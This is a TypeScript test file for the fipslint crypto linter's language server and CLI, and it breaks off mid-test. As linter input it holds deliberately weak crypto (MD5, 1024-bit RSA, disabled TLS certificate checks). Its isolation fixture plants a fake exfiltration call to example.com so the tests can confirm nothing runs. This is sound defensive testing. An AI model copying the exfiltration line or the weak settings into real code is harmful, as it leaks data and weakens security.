import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import {
  CodeActionRequest,
  DidChangeConfigurationNotification,
  DidChangeTextDocumentNotification,
  DidChangeWatchedFilesNotification,
  FileChangeType,
  DidOpenTextDocumentNotification,
  DocumentDiagnosticRequest,
  ExecuteCommandRequest,
  HoverRequest,
  RegistrationRequest,
  type Diagnostic,
  type PublishDiagnosticsParams,
  type WorkspaceEdit,
} from 'vscode-languageserver-protocol/node';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { denseFileText } from '../bench/generate';
import { TestClient } from './lsp-client';

const SOURCE = [
  "import crypto from 'node:crypto';",
  "import https from 'node:https';",
  "export const digest = (s: string) => crypto.createHash('md5').update(s).digest('hex');",
  "export const keys = () => crypto.generateKeyPairSync('rsa', { modulusLength: 1024 });",
  "export const agent = new https.Agent({ rejectUnauthorized: false });",
  '',
].join('\n');

function applyWorkspaceEdit(document: TextDocument, edit: WorkspaceEdit): string {
  return TextDocument.applyEdits(document, edit.changes?.[document.uri] ?? []);
}

let root: string;
before(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-lsp-'));
});
after(() => fs.rmSync(root, { recursive: true, force: true }));

describe('language server over stdio (push diagnostics)', () => {
  let client: TestClient;
  let uri: string;
  let document: TextDocument;

  before(async () => {
    client = new TestClient();
    await client.initialize(root, { workspace: { configuration: true, didChangeConfiguration: { dynamicRegistration: true } }, textDocument: { publishDiagnostics: { relatedInformation: true } } });
    const file = path.join(root, 'service.ts');
    fs.writeFileSync(file, SOURCE);
    uri = pathToFileURL(file).href;
    document = TextDocument.create(uri, 'typescript', 1, SOURCE);
    await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'typescript', version: 1, text: SOURCE } });
  });

  after(async () => {
    if (client.process.exitCode === null) client.process.kill();
  });

  let first: Diagnostic[];
  it('publishes diagnostics with ranges, codes, links and severities', async () => {
    const published = await client.diagnostics((p) => p.uri === uri && p.version === 1, 'after didOpen');
    first = published.diagnostics;
    const summary = first.map((d) => `${d.range.start.line}:${d.range.start.character}-${d.range.end.character} ${d.code} ${d.severity} ${d.source}`);
    const lines = SOURCE.split('\n');
    const at = (line: number, text: string) => `${line}:${lines[line].indexOf(text)}-${lines[line].indexOf(text) + text.length}`;
    assert.deepEqual(summary, [
      `${at(2, "'md5'")} hash-algorithm 1 fipslint`,
      `${at(3, '1024')} rsa-key-size 1 fipslint`,
      `${at(4, 'false')} tls-certificate-validation 1 fipslint`,
    ]);
    assert.equal(first[0].codeDescription?.href, 'https://github.com/fipslint/fipslint/blob/main/rules/hash-algorithm/README.md');
    assert.match(String(first[0].message), /MD5/);
  });

  it('offers quick fixes (a suggestion is never the preferred one); applying one removes the finding after didChange', async () => {
    const md5 = first[0];
    const actions = (await client.connection.sendRequest(CodeActionRequest.type, { textDocument: { uri }, range: md5.range, context: { diagnostics: [md5] } })) as Array<{ title: string; isPreferred?: boolean; edit?: WorkspaceEdit; command?: { command: string } }>;
    const titles = actions.map((a) => a.title);
    assert.ok(titles.some((t) => t.startsWith("Replace 'md5' with 'sha256'")), titles.join('\n'));
    assert.ok(titles.includes('Suppress hash-algorithm for this line (then write the reason after --)'));
    assert.ok(actions.some((a) => a.command?.command === 'fipslint.showDocumentation'));
    // MD5 → SHA-256 changes every digest: a suggestion, so not one Ctrl+. Enter or auto-fix would apply.
    assert.deepEqual(actions.filter((a) => a.isPreferred), []);
    const replace = actions.find((a) => a.title.startsWith("Replace 'md5' with 'sha256'"))!;
    assert.match(replace.title, /changes behaviour$/);
    const fixed = applyWorkspaceEdit(document, replace.edit!);
    assert.match(fixed, /createHash\('sha256'\)/);
    const change = { range: md5.range, text: "'sha256'" };
    await client.connection.sendNotification(DidChangeTextDocumentNotification.type, { textDocument: { uri, version: 2 }, contentChanges: [change] });
    document = TextDocument.update(document, [change], 2);
    assert.equal(document.getText(), fixed);
    const published = await client.diagnostics((p) => p.uri === uri && p.version === 2, 'after didChange');
    assert.deepEqual(published.diagnostics.map((d) => d.code), ['rsa-key-size', 'tls-certificate-validation']);
  });

  it('offers source.fixAll.fipslint with the safe fixes only (for codeActionsOnSave)', async () => {
    const fixAll = (target: string) =>
      client.connection.sendRequest(CodeActionRequest.type, {
        textDocument: { uri: target },
        range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
        context: { diagnostics: [], only: ['source.fixAll.fipslint'] },
      }) as Promise<Array<{ title: string; kind: string; edit: WorkspaceEdit }>>;
    // Every fix in SOURCE changes behaviour (rejectUnauthorized: true refuses servers that were
    // accepted; a longer RSA key; another digest): nothing to apply on save.
    assert.deepEqual(await fixAll(uri), []);
    const otherUri = pathToFileURL(path.join(root, 'tokens.ts')).href;
    const other = TextDocument.create(otherUri, 'typescript', 1, "import crypto from 'node:crypto';\nexport const token = crypto.pseudoRandomBytes(16);\nexport const h = crypto.createHash('md5');\n");
    await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: otherUri, languageId: 'typescript', version: 1, text: other.getText() } });
    await client.diagnostics((p) => p.uri === otherUri, 'the second file');
    const actions = await fixAll(otherUri);
    assert.equal(actions.length, 1);
    assert.equal(actions[0].kind, 'source.fixAll.fipslint');
    const fixed = applyWorkspaceEdit(other, actions[0].edit);
    // pseudoRandomBytes is randomBytes under another name (safe); MD5 (a suggestion) stays for a person to pick.
    assert.match(fixed, /crypto\.randomBytes\(16\)/);
    assert.match(fixed, /createHash\('md5'\)/);
  });

  it('answers hover with the rule, standards and a link', async () => {
    const hover = await client.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: { line: 3, character: SOURCE.split('\n')[3].indexOf('1024') + 1 } });
    const value = (hover?.contents as { value: string }).value;
    assert.match(value, /`rsa-key-size`/);
    assert.match(value, /FIPS 186-5/);
    assert.match(value, /rules\/rsa-key-size\/README\.md/);
    // The diagnostic's message is shown by the editor's own diagnostic hover: repeating it pushed the rest below the fold.
    const message = String(first.find((d) => d.code === 'rsa-key-size')!.message);
    assert.ok(!value.includes(message.slice(0, 40)), 'the message is not repeated');
  });

  it('re-lints when the configuration changes (profile, then a rule turned off)', async () => {
    client.settings = { ...client.settings, profile: 'cnsa-2.0' };
    await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
    const cnsa = await client.diagnostics((p) => p.uri === uri && p.diagnostics.some((d) => d.code === 'hash-algorithm' && /SHA-256/.test(String(d.message))), 'SHA-256 under CNSA');
    assert.ok(cnsa.diagnostics.some((d) => d.code === 'hash-algorithm'));
    client.settings = { ...client.settings, profile: 'fips-140-3', rules: { 'rsa-key-size': 'off' } };
    await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
    const off = await client.diagnostics((p) => p.uri === uri && p.diagnostics.length === 1, 'rule off');
    assert.deepEqual(off.diagnostics.map((d) => d.code), ['tls-certificate-validation']);
  });

  it('gives a file over fipslint.maxFileSize one notice instead of findings, and lints it once the limit is raised', async () => {
    const bigText = `${SOURCE}${'// generated\n'.repeat(200)}`;
    const bigUri = pathToFileURL(path.join(root, 'vendor.js')).href;
    client.settings = { ...client.settings, rules: {}, maxFileSize: 0.001 };
    await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
    await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: bigUri, languageId: 'javascript', version: 1, text: bigText } });
    const notice = await client.diagnostics((p) => p.uri === bigUri && p.version === 1, 'too-large notice');
    assert.equal(notice.diagnostics.length, 1);
    assert.equal(notice.diagnostics[0].severity, 3);
    assert.deepEqual(notice.diagnostics[0].range, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } });
    assert.match(String(notice.diagnostics[0].message), /did not analyse this file: .* over the fipslint\.maxFileSize limit/);
    client.settings = { ...client.settings, maxFileSize: 2 };
    await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
    const linted = await client.diagnostics((p) => p.uri === bigUri && p.diagnostics.some((d) => d.code === 'hash-algorithm'), 'linted after raising the limit');
    assert.deepEqual(linted.diagnostics.map((d) => d.code), ['hash-algorithm', 'rsa-key-size', 'tls-certificate-validation']);
  });

  it('shuts down and exits cleanly', async () => {
    assert.equal(await client.stop(), 0);
  });
});

describe('language server over stdio (a client that refuses registrations)', () => {
  it('keeps serving diagnostics', async () => {
    const client = new TestClient();
    client.connection.onRequest(RegistrationRequest.type, () => {
      throw new Error('registration not supported');
    });
    try {
      await client.initialize(root, { workspace: { configuration: true, didChangeConfiguration: { dynamicRegistration: true }, didChangeWatchedFiles: { dynamicRegistration: true } } });
      const uri = pathToFileURL(path.join(root, 'refusing.ts')).href;
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'typescript', version: 1, text: SOURCE } });
      const published = await client.diagnostics((p) => p.uri === uri, 'after a refused registration');
      assert.equal(published.diagnostics.length, 3);
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
    }
  });
});

describe('language server over stdio (workspace scan)', () => {
  it('publishes findings for files that are not open, skipping excluded ones', async () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-scan-'));
    fs.mkdirSync(path.join(workspace, 'src'));
    fs.mkdirSync(path.join(workspace, 'generated'));
    fs.writeFileSync(path.join(workspace, 'src', 'a.ts'), SOURCE);
    fs.writeFileSync(path.join(workspace, 'src', 'clean.ts'), "import { createHash } from 'crypto';\ncreateHash('sha256');\n");
    fs.writeFileSync(path.join(workspace, 'generated', 'b.js'), "require('crypto').createHash('md5');\n");
    const client = new TestClient();
    client.settings = { ...client.settings, exclude: ['generated/**'] };
    try {
      await client.initialize(workspace, { workspace: { configuration: true, workspaceFolders: true } });
      client.connection.onRequest('workspace/workspaceFolders', () => [{ uri: pathToFileURL(workspace).href, name: 'ws' }]);
      const result = (await client.connection.sendRequest(ExecuteCommandRequest.type, { command: 'fipslint.scanWorkspace', arguments: [] })) as { files: number; findings: number; cancelled: boolean };
      assert.deepEqual(result, { files: 2, findings: 3, cancelled: false, assets: 4 });
      const published = await client.diagnostics((p) => p.uri.endsWith('/src/a.ts'), 'scan result for a.ts');
      assert.deepEqual(published.diagnostics.map((d) => d.code), ['hash-algorithm', 'rsa-key-size', 'tls-certificate-validation']);
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
      fs.rmSync(workspace, { recursive: true, force: true });
    }
  });
});

describe('language server over stdio (crypto inventory)', () => {
  it('builds the inventory in the workspace scan, the same as the CLI, exports it as a CBOM and keeps it current', async () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-inventory-'));
    fs.cpSync(path.join(__dirname, '..', '..', 'test', 'fixtures', 'project'), workspace, { recursive: true });
    const client = new TestClient();
    const inventories: Array<{ inventory: { totals: { assets: number }; assets: Array<{ name: string; library: string; status: string; occurrences: Array<{ file: string; line: number }> }> }; roots: string[] }> = [];
    client.connection.onNotification('fipslint/inventoryChanged', (message) => {
      inventories.push(message);
    });
    const next = async (count: number) => {
      const deadline = Date.now() + 30_000;
      while (inventories.length < count) {
        assert.ok(Date.now() < deadline, `inventory update ${count} did not arrive`);
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return inventories[count - 1];
    };
    const shape = (assets: Array<{ name: string; library: string; status: string; occurrences: Array<{ file: string; line: number }> }>, base: string) =>
      assets.map((a) => `${a.status} ${a.name} ${a.library} ${a.occurrences.map((o) => `${path.relative(base, path.resolve(base, o.file))}:${o.line}`).join(' ')}`);
    try {
      await client.initialize(workspace, { workspace: { configuration: true, workspaceFolders: true } });
      client.connection.onRequest('workspace/workspaceFolders', () => [{ uri: pathToFileURL(workspace).href, name: 'ws' }]);
      assert.equal(await client.connection.sendRequest('fipslint/inventory', {}), null, 'no inventory before a scan');
      assert.equal(await client.connection.sendRequest('fipslint/cbom', {}), null);

      await client.connection.sendRequest(ExecuteCommandRequest.type, { command: 'fipslint.scanWorkspace', arguments: [] });
      const scanned = await next(1);
      const cli = JSON.parse(spawnSync(process.execPath, [path.join(__dirname, '..', '..', 'bin', 'fipslint.js'), '--format', 'json', '--inventory', '.'], { cwd: workspace, encoding: 'utf8' }).stdout);
      assert.deepEqual(shape(scanned.inventory.assets, workspace), shape(cli.inventory.assets, workspace));
      assert.equal(scanned.inventory.totals.assets, 13);
      assert.deepEqual(scanned.roots, [workspace]);
      assert.deepEqual(await client.connection.sendRequest('fipslint/inventory', {}), scanned);

      const { json } = (await client.connection.sendRequest('fipslint/cbom', {})) as { json: string };
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      const CDX = require('@cyclonedx/cyclonedx-library');
      assert.equal(await new CDX.Validation.JsonStrictValidator(CDX.Spec.Version.v1dot6).validate(json), null);
      const bom = JSON.parse(json);
      assert.deepEqual(bom.components.map((c: { name: string }) => c.name), scanned.inventory.assets.map((a) => a.name));
      assert.equal(bom.metadata.component.name, path.basename(workspace));
      assert.equal(bom.components.find((c: { name: string }) => c.name === 'MD5').evidence.occurrences[0].location, 'src/index.ts');

      // A file changes on disk (a pull, another editor): the inventory follows without a new scan.
      const clean = path.join(workspace, 'src', 'clean.ts');
      fs.appendFileSync(clean, "\nexport const legacy = (s: string) => createHash('md5').update(s).digest('hex');\n");
      await client.connection.sendNotification(DidChangeWatchedFilesNotification.type, { changes: [{ uri: pathToFileURL(clean).href, type: FileChangeType.Changed }] });
      const updated = await next(2);
      const md5 = updated.inventory.assets.find((a) => a.name === 'MD5' && a.library === 'node:crypto')!;
      assert.deepEqual(md5.occurrences.map((o) => `${path.basename(o.file)}:${o.line}`), ['clean.ts:25', 'index.ts:10']);

      // Another profile in the settings: the statuses follow, without a new scan.
      client.settings = { ...client.settings, profile: 'cnsa-2.0' };
      await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
      const cnsa = await next(3);
      assert.equal((cnsa.inventory as unknown as { profile: string }).profile, 'cnsa-2.0');
      assert.equal(cnsa.inventory.assets.find((a) => a.name === 'SHA-256')!.status, 'NO');
      assert.equal(updated.inventory.assets.find((a) => a.name === 'SHA-256')!.status, 'OK');
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
      fs.rmSync(workspace, { recursive: true, force: true });
    }
  });
});

describe('language server over stdio (fipslint.config.json)', () => {
  it('applies the file, re-lints when it changes, reports a broken one on the file itself and carries on with defaults', async () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-config-lsp-'));
    const configFile = path.join(workspace, 'fipslint.config.json');
    const configUri = pathToFileURL(configFile).href;
    fs.mkdirSync(path.join(workspace, 'src'));
    const text = "import { createHash } from 'node:crypto';\nexport const h = createHash('sha256');\n";
    const uri = pathToFileURL(path.join(workspace, 'src', 'hash.ts')).href;
    fs.writeFileSync(configFile, JSON.stringify({ profile: 'cnsa-2.0' }));
    const client = new TestClient();
    client.settings = { enable: true, profile: null, run: 'onType', rules: {} };
    const changed = () => client.connection.sendNotification(DidChangeWatchedFilesNotification.type, { changes: [{ uri: configUri, type: FileChangeType.Changed }] });
    const codes = (p: PublishDiagnosticsParams) => p.diagnostics.map((d) => d.code).join(',');
    try {
      await client.initialize(workspace, { workspace: { configuration: true, didChangeWatchedFiles: { dynamicRegistration: true } } });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'typescript', version: 1, text } });
      await client.diagnostics((p) => p.uri === uri && codes(p) === 'hash-algorithm', 'SHA-256 is an error under the file\'s cnsa-2.0');

      fs.writeFileSync(configFile, JSON.stringify({ profile: 'fips-140-3', rules: { 'hash-algorithm': 'warning' } }));
      await changed();
      await client.diagnostics((p) => p.uri === uri && codes(p) === '' && p.version === 1 && client.published.indexOf(p) > 0, 're-linted clean after the change');

      fs.writeFileSync(configFile, '{\n  "profile": "fips-140-3",\n  "rulez": {}\n}\n');
      await changed();
      const onConfig = await client.diagnostics((p) => p.uri === configUri && p.diagnostics.length === 1, 'a diagnostic on the broken configuration file');
      assert.deepEqual(onConfig.diagnostics[0].range.start, { line: 2, character: 2 });
      assert.match(String(onConfig.diagnostics[0].message), /unknown key "rulez" \(did you mean "rules"\?\).*using its defaults/);
      const deadline = Date.now() + 10_000;
      while (!client.messages.some((m) => /fipslint\.config\.json:3:3: unknown key "rulez"/.test(m)) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      assert.ok(client.messages.some((m) => /fipslint\.config\.json:3:3: unknown key "rulez"/.test(m)), `a notification: ${client.messages.join(' | ')}`);

      // The editor setting, where given, wins over the file.
      fs.writeFileSync(configFile, JSON.stringify({ profile: 'fips-140-3' }));
      await changed();
      await client.diagnostics((p) => p.uri === configUri && p.diagnostics.length === 0, 'the fixed file loses its diagnostic');
      client.settings = { ...client.settings, profile: 'cnsa-2.0' };
      await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
      const last = client.published.length;
      await client.diagnostics((p) => p.uri === uri && codes(p) === 'hash-algorithm' && client.published.indexOf(p) >= last, 'the editor profile overrides the file');
      assert.equal(await client.stop(), 0, 'the server survived a broken configuration');
    } finally {
      if (client.process.exitCode === null) client.process.kill();
      fs.rmSync(workspace, { recursive: true, force: true });
    }
  });
});

describe('language server over stdio (values across modules, and values known only at run time)', () => {
  it('finds a literal passed to another module\'s wrapper, follows the wrapper when it changes on disk, and shows unresolved values as hints when asked', async () => {
    const workspace = fs.mkdtempSync(path.join(root, 'flow-'));
    fs.mkdirSync(path.join(workspace, 'src'));
    const hashFile = path.join(workspace, 'src', 'hash.ts');
    fs.writeFileSync(hashFile, "import { createHash } from 'node:crypto';\nexport const digest = (alg: string, data: string) => createHash(alg).update(data).digest('hex');\n");
    const text = "import { digest } from './hash';\nexport const etag = (body: string) => digest('md5', body);\n";
    const uri = pathToFileURL(path.join(workspace, 'src', 'etag.ts')).href;
    const client = new TestClient();
    const codes = (p: PublishDiagnosticsParams) => p.diagnostics.map((d) => `${d.code}@${d.range.start.line + 1}:${d.severity}`).join(',');
    try {
      await client.initialize(workspace, { workspace: { configuration: true, didChangeWatchedFiles: { dynamicRegistration: true } } });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'typescript', version: 1, text } });
      const first = await client.diagnostics((p) => p.uri === uri && codes(p) === 'hash-algorithm@2:1', "'md5' passed to digest() is found where it is written");
      assert.ok(first.diagnostics[0].relatedInformation?.some((r) => r.location.uri.endsWith('/src/hash.ts')), 'related information points into the wrapper');

      // The wrapper stops using its parameter: the caller's finding goes on the next re-lint.
      fs.writeFileSync(hashFile, "import { createHash } from 'node:crypto';\nexport const digest = (alg: string, data: string) => createHash('sha256').update(data).digest('hex');\n");
      await client.connection.sendNotification(DidChangeWatchedFilesNotification.type, { changes: [{ uri: pathToFileURL(hashFile).href, type: FileChangeType.Changed }] });
      await client.diagnostics((p) => p.uri === uri && codes(p) === '' && client.published.indexOf(p) > client.published.indexOf(first), 'clean once the wrapper changed');

      // With fipslint.reportUnresolved, a value known only at run time is a hint with its reason.
      const envUri = pathToFileURL(path.join(workspace, 'src', 'env.ts')).href;
      client.settings = { ...client.settings, reportUnresolved: true };
      await client.connection.sendNotification(DidChangeConfigurationNotification.type, { settings: null });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, {
        textDocument: { uri: envUri, languageId: 'typescript', version: 1, text: "import { createHash } from 'node:crypto';\nexport const h = createHash(process.env.HASH_ALG ?? 'sha256');\n" },
      });
      const hinted = await client.diagnostics((p) => p.uri === envUri && codes(p) === 'fipslint-unresolved@2:4', 'a Hint for the unresolved algorithm');
      assert.match(String(hinted.diagnostics[0].message), /cannot check the hash algorithm of crypto\.createHash\(\): it comes from process\.env\.HASH_ALG/);

      // A helper whose Math.random() becomes the OAuth state in a file that is not open: found once
      // the workspace's files are listed (in the background), with the use as related information.
      fs.writeFileSync(path.join(workspace, 'src', 'login.ts'), "import { randomId } from './ids';\nexport const url = `/authorize?client_id=app&state=${randomId()}`;\n");
      const idsUri = pathToFileURL(path.join(workspace, 'src', 'ids.ts')).href;
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, {
        textDocument: { uri: idsUri, languageId: 'typescript', version: 1, text: 'export function randomId() {\n  return Math.random().toString(36).slice(2);\n}\n' },
      });
      const helper = await client.diagnostics((p) => p.uri === idsUri && codes(p) === 'insecure-random@2:1', 'the helper is reported once the workspace is listed');
      assert.ok(helper.diagnostics[0].relatedInformation?.some((r) => r.location.uri.endsWith('/src/login.ts')));
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
    }
  });
});

describe('language server over stdio (a slow file)', () => {
  it('analyses a large file off the main thread: a small file opened after it gets its diagnostics first', async () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-slow-'));
    const dense = denseFileText();
    const bigText = Array.from({ length: 7 }, () => dense).join('\n');
    assert.ok(bigText.length > 1_500_000 && bigText.length < 2 * 1024 * 1024);
    const bigUri = pathToFileURL(path.join(workspace, 'generated.ts')).href;
    const smallUri = pathToFileURL(path.join(workspace, 'small.ts')).href;
    const client = new TestClient();
    try {
      await client.initialize(workspace, { workspace: { configuration: true } });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: bigUri, languageId: 'typescript', version: 1, text: bigText } });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: smallUri, languageId: 'typescript', version: 1, text: SOURCE } });
      const big = await client.diagnostics((p) => p.uri === bigUri && p.diagnostics.length > 0, 'the large file, analysed on the worker');
      const small = await client.diagnostics((p) => p.uri === smallUri, 'the small file');
      assert.equal(small.diagnostics.length, 3);
      assert.ok(big.diagnostics.length > 1000);
      assert.ok(client.published.indexOf(small) < client.published.indexOf(big), 'the small file did not wait for the large one');
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
      fs.rmSync(workspace, { recursive: true, force: true });
    }
  });
});

/**
 * A preload that makes every way out to the network throw and write down who tried, and a
 * workspace whose code, dependencies and configuration would leave marker files if anything
 * executed or required them.
 */
function hostileWorkspace(): { dir: string; env: NodeJS.ProcessEnv; attempts: () => string[]; ran: () => string[] } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-isolation-'));
  const markers = path.join(dir, '.markers');
  fs.mkdirSync(markers);
  const log = path.join(markers, 'network.log');
  const preload = path.join(dir, 'no-network.cjs');
  fs.writeFileSync(
    preload,
    [
      "const fs = require('fs');",
      `const log = ${JSON.stringify(log)};`,
      "const refuse = (what) => function () { fs.appendFileSync(log, what + '\\n'); throw new Error('network access refused by the test: ' + what); };",
      "const net = require('net'); net.Socket.prototype.connect = refuse('net.Socket.connect'); net.connect = net.createConnection = refuse('net.connect');",
      "require('tls').connect = refuse('tls.connect');",
      "const dns = require('dns'); dns.lookup = refuse('dns.lookup'); dns.resolve = refuse('dns.resolve'); dns.promises.lookup = refuse('dns.promises.lookup');",
      "for (const m of ['http', 'https']) { const mod = require(m); mod.request = refuse(m + '.request'); mod.get = refuse(m + '.get'); }",
      "require('dgram').createSocket = refuse('dgram.createSocket');",
      "globalThis.fetch = refuse('fetch');",
    ].join('\n'),
  );
  const marker = (name: string) => `require('fs').writeFileSync(${JSON.stringify(path.join(markers, name))}, 'ran');`;
  fs.mkdirSync(path.join(dir, 'src'));
  fs.writeFileSync(path.join(dir, 'src', 'settings.js'), `${marker('project-module')}\nrequire('https').get('https://example.com/exfiltrate');\nmodule.exports = { HASH: 'md5' };\n`);
  fs.writeFileSync(path.join(dir, 'src', 'main.js'), "const { HASH } = require('./settings');\nconst evil = require('evil-dependency');\nrequire('crypto').createHash(HASH);\n");
  fs.mkdirSync(path.join(dir, 'node_modules', 'evil-dependency'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'node_modules', 'evil-dependency', 'package.json'), JSON.stringify({ name: 'evil-dependency', main: 'index.js' }));
  fs.writeFileSync(path.join(dir, 'node_modules', 'evil-dependency', 'index.js'), `${marker('node-modules')}\nmodule.exports = { HASH: 'sha256' };\n`);
  fs.writeFileSync(path.join(dir, 'fipslint.config.json'), JSON.stringify({ rules: { 'hash-algorithm': 'error' } }));
  fs.writeFileSync(path.join(dir, 'fipslint.config.js'), marker('config-js'));
  const env = { ...process.env, NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --require ${preload}`.trim() };
  return {
    dir,
    env,
    attempts: () => (fs.existsSync(log) ? fs.readFileSync(log, 'utf8').split('\n').filter(Boolean) : []),
    ran: () => fs.readdirSync(markers).filter((f) => f !== 'network.log'),
  };
}

describe('nothing runs, nothing leaks', () => {
  it('the CLI reads the code, its dependencies and its configuration without executing any of it, and opens no connection', () => {
    const ws = hostileWorkspace();
    try {
      const cli = spawnSync(process.execPath, [path.join(__dirname, '..', '..', 'bin', 'fipslint.js'), '--format', 'json', '.'], { cwd: ws.dir, env: ws.env, encoding: 'utf8' });
      assert.equal(cli.status, 1, cli.stderr);
      const findings = JSON.parse(cli.stdout).files.flatMap((f: { file: string; findings: Array<{ ruleId: string; line: number }> }) => f.findings.map((x) => `${f.file}:${x.line} ${x.ruleId}`));
      assert.ok(findings.includes('src/main.js:3 hash-algorithm'), `the constant was read from settings.js, not run: ${findings.join(', ')}`);
      assert.deepEqual(ws.ran(), [], 'nothing executed');
      assert.deepEqual(ws.attempts(), [], 'no network access');
    } finally {
      fs.rmSync(ws.dir, { recursive: true, force: true });
    }
  });

  it('the language server does the same, and in Restricted Mode ignores the workspace configuration and refuses the scan', async () => {
    const ws = hostileWorkspace();
    fs.writeFileSync(path.join(ws.dir, 'fipslint.config.json'), JSON.stringify({ profile: 'cnsa-2.0' }));
    const text = fs.readFileSync(path.join(ws.dir, 'src', 'main.js'), 'utf8') + "require('crypto').createHash('sha256');\n";
    const uri = pathToFileURL(path.join(ws.dir, 'src', 'main.js')).href;
    const codes = (p: PublishDiagnosticsParams) => p.diagnostics.map((d) => `${d.range.start.line + 1} ${d.code}`).join(',');
    for (const trusted of [true, false]) {
      const client = new TestClient(ws.env);
      client.settings = { enable: true, profile: null, run: 'onType', rules: {} };
      try {
        await client.initialize(ws.dir, { workspace: { configuration: true, workspaceFolders: true } }, { workspaceTrusted: trusted });
        client.connection.onRequest('workspace/workspaceFolders', () => [{ uri: pathToFileURL(ws.dir).href, name: 'ws' }]);
        await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'javascript', version: 1, text } });
        const published = await client.diagnostics((p) => p.uri === uri, 'diagnostics');
        // Trusted: the file's cnsa-2.0 makes SHA-256 an error too. Restricted: the defaults.
        assert.equal(codes(published), trusted ? '3 hash-algorithm,4 hash-algorithm' : '3 hash-algorithm');
        const scan = (await client.connection.sendRequest(ExecuteCommandRequest.type, { command: 'fipslint.scanWorkspace', arguments: [] })) as { restricted?: boolean; files: number };
        assert.equal(!!scan.restricted, !trusted);
        if (!trusted) assert.ok(client.messages.some((m) => /workspace scan is off in Restricted Mode/.test(m)));
        assert.equal(await client.stop(), 0);
      } finally {
        if (client.process.exitCode === null) client.process.kill();
      }
    }
    try {
      assert.deepEqual(ws.ran(), [], 'nothing executed');
      assert.deepEqual(ws.attempts(), [], 'no network access');
    } finally {
      fs.rmSync(ws.dir, { recursive: true, force: true });
    }
  });
});

describe('language server over stdio (pull diagnostics)', () => {
  it('answers textDocument/diagnostic with a full report', async () => {
    const client = new TestClient();
    try {
      await client.initialize(root, { workspace: { configuration: true }, textDocument: { diagnostic: { dynamicRegistration: false } } });
      const uri = pathToFileURL(path.join(root, 'pull.ts')).href;
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'typescript', version: 1, text: SOURCE } });
      const report = (await client.connection.sendRequest(DocumentDiagnosticRequest.type, { textDocument: { uri } })) as { kind: string; items: Diagnostic[] };
      assert.equal(report.kind, 'full');
      assert.deepEqual(report.items.map((d) => d.code), ['hash-algorithm', 'rsa-key-size', 'tls-certificate-validation']);
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
    }
  });
});

describe('language server start-up through the V8 code cache', () => {
  it('writes the cache in the user cache folder, starts from it, starts anyway from a corrupt one, and deletes caches of other versions unused for a month', async () => {
    const cacheHome = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-code-cache-'));
    const cacheDir = path.join(cacheHome, 'fipslint');
    fs.mkdirSync(cacheDir);
    const staleCache = path.join(cacheDir, 'server-v20.0.0-1-1.cache');
    const recentCache = path.join(cacheDir, 'server-v20.0.0-2-2.cache');
    fs.writeFileSync(staleCache, 'x');
    fs.writeFileSync(recentCache, 'x');
    const fortyDaysAgo = new Date(Date.now() - 40 * 24 * 3600 * 1000);
    fs.utimesSync(staleCache, fortyDaysAgo, fortyDaysAgo);
    const ownCaches = () => fs.readdirSync(cacheDir).filter((f) => f.endsWith('.cache') && f !== path.basename(staleCache) && f !== path.basename(recentCache));
    const file = path.join(root, 'cached.ts');
    fs.writeFileSync(file, SOURCE);
    const uri = pathToFileURL(file).href;
    const diagnosticsOfOneStart = async () => {
      const client = new TestClient({ ...process.env, XDG_CACHE_HOME: cacheHome });
      await client.initialize(root, { workspace: { configuration: true } });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'typescript', version: 1, text: SOURCE } });
      const published = await client.diagnostics((p) => p.uri === uri && p.version === 1, 'after didOpen');
      return { client, codes: published.diagnostics.map((d) => d.code) };
    };
